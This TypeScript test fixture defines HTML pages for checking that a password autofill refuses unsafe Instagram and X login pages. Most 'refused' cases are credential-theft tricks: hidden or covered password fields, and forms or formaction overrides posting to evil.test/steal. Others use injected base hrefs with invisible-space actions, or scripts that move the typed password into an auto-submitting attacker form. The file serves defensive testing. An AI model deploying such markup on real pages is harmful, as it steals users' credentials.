/**
 * Pages for tests/e2e/page-safety.test.ts, each served at Instagram's login URL (or X's, for two screens): one per
 * safety rule of the fill, plus the pages that must still be filled (a plain form, a floating label).
 */

const field = 'display:block;width:300px;height:30px;margin:6px 0';
const name = (style = '') => `<input name="username" type="text" autocomplete="username" style="${field};${style}">`;
const secret = (style = '', id = 'pw') =>
  `<input id="${id}" name="password" type="password" autocomplete="current-password" style="${field};${style}">`;
const button = '<button type="submit" style="width:300px;height:30px">Log in</button>';
const form = (inner: string, attrs = '') => `<form id="login" method="post" ${attrs}>${inner}</form>`;
const plain = form(name() + secret() + button);

/** Pages where nothing may be typed or sent. `target` is the field isSafeField must refuse (when one rule does). */
export const refusedCases: Record<string, { html: string; target?: string; on?: 'instagram' | 'x' }> = {
  'a hidden password field': { html: form(name() + secret('visibility:hidden') + button), target: '#pw' },
  'a display:none password field': { html: form(name() + secret('display:none') + button), target: '#pw' },
  'a zero-size (sub-pixel) password field': {
    html: form(name() + secret('width:0.5px;height:0.5px;padding:0;border:0;margin:0;min-width:0') + button),
    target: '#pw',
  },
  'a field at opacity 0.3 through an ancestor': { html: `<div style="opacity:0.3">${plain}</div>`, target: '#pw' },
  'a field at filter: opacity(0.3) through an ancestor': {
    html: `<div style="filter:blur(0px) opacity(30%)">${plain}</div>`,
    target: '#pw',
  },
  'a field under an opaque cover': {
    html: `${plain}<div style="position:fixed;inset:0;background:#fff;z-index:9"></div>`,
    target: '#pw',
  },
  'a field under an opaque cover that lets clicks through (pointer-events: none)': {
    html: `${plain}<div style="position:fixed;inset:0;background:#fff;z-index:9;pointer-events:none"></div>`,
    target: '#pw',
  },
  'a pass-through cover whose pointer-events change is delayed by a transition': {
    html: `${plain}<div style="position:fixed;inset:0;background:#fff;z-index:9;pointer-events:none;transition:pointer-events 100s allow-discrete"></div>`,
    target: '#pw',
  },
  'a name and a password in different forms': {
    html: `${form(name())}${form(secret() + button, 'id="other"')}`,
  },
  'a form posting to another origin': { html: form(name() + secret() + button, 'action="https://evil.test/steal"') },
  'a form posting elsewhere placed before the real one': {
    html:
      form(name() + secret('', 'evil-pw') + button, 'action="https://evil.test/steal"') +
      form(name() + secret() + button),
  },
  'an injected <base href> under a relative action': {
    html: `<base href="https://evil.test/">${form(name() + secret() + button, 'action="/accounts/login/ajax/"')}`,
  },
  // What the browser submits to, not what a re-parse of the attribute says: a no-break space is no HTML space, so
  // Chromium resolves it against the base (found by a second reader).
  'an action of a no-break space under an injected <base href>': {
    html: `<base href="https://evil.test/">${form(name() + secret() + button, 'action="&nbsp;"')}`,
  },
  'a formaction of a zero-width no-break space under an injected <base href>': {
    html: `<base href="https://evil.test/">${form(
      `${name()}${secret()}<button type="submit" formaction="&#xFEFF;" style="width:300px;height:30px">Log in</button>`,
    )}`,
  },
  'an image submit button (matching X’s log-in test id) whose formaction posts elsewhere': {
    on: 'x',
    html: form(
      `${name()}${secret()}<input type="image" alt="Log in" data-testid="LoginForm_Login_Button" formaction="https://evil.test/steal" style="width:300px;height:30px">`,
    ),
  },
  'a submit button whose formaction posts elsewhere': {
    html: form(
      `${name()}${secret()}<button type="submit" formaction="https://evil.test/steal" style="width:300px;height:30px">Log in</button>`,
    ),
  },
  'a password field moved into an auto-sending form when focused': {
    html: `${plain}<form id="evil" method="post" action="https://evil.test/steal"></form><script>
      const evil = document.getElementById('evil');
      document.getElementById('pw').addEventListener('focus', (event) => evil.prepend(event.target), { once: true });
      evil.addEventListener('input', () => evil.submit());</script>`,
  },
  'a password field hidden when focused (its form sends on input)': {
    html: `${plain}<script>
      const pw = document.getElementById('pw');
      pw.addEventListener('focus', () => { pw.style.opacity = '0'; }, { once: true });
      pw.addEventListener('input', () => pw.form.submit());</script>`,
  },
  'a password field moved into another form once typed': {
    html: `${plain}<form id="evil" method="post" action="https://evil.test/steal"></form><script>
      document.getElementById('pw').addEventListener('change', (event) => {
        const evil = document.getElementById('evil');
        evil.prepend(event.target);
        evil.append(document.querySelector('#login button'));
      }, { once: true });</script>`,
  },
  'a password field hidden once typed': {
    html: `${plain}<script>
      const pw = document.getElementById('pw');
      pw.addEventListener('change', () => { pw.style.visibility = 'hidden'; }, { once: true });</script>`,
  },
};

/** Instagram's floating label: a see-through label painted over its field, letting clicks through. */
const floatingLabel = (label: string, input: string) =>
  `<label style="position:relative;display:block"><span style="position:absolute;left:8px;top:8px;pointer-events:none;color:#737373">${label}</span>${input}</label>`;

export const filledCases: Record<string, string> = {
  'a plain login form': plain,
  'a login form with floating labels over its fields': form(
    floatingLabel('Phone number, username, or email', name()) + floatingLabel('Password', secret()) + button,
  ),
};

const xName = `<input name="text" type="text" autocomplete="username" style="${field}">`;
const xPassword = `<input name="password" type="password" autocomplete="current-password" style="${field}">`;
/** X's two screens: Next draws the password screen `where` (a selector), in the name's dialog or elsewhere. */
export const twoScreens = (where: string) => `<div id="dialog"><div id="screen"><div id="name-screen">${xName}
  <button type="button" id="next" style="width:300px;height:30px">Next</button></div></div></div><div id="elsewhere"></div>
  <script>document.getElementById('next').addEventListener('click', () => {
    document.getElementById('name-screen').remove();
    setTimeout(() => document.querySelector('${where}').insertAdjacentHTML('beforeend',
      '${xPassword}<button type="button" data-testid="LoginForm_Login_Button" style="width:300px;height:30px">Log in</button>'), 100);
  });</script>`;
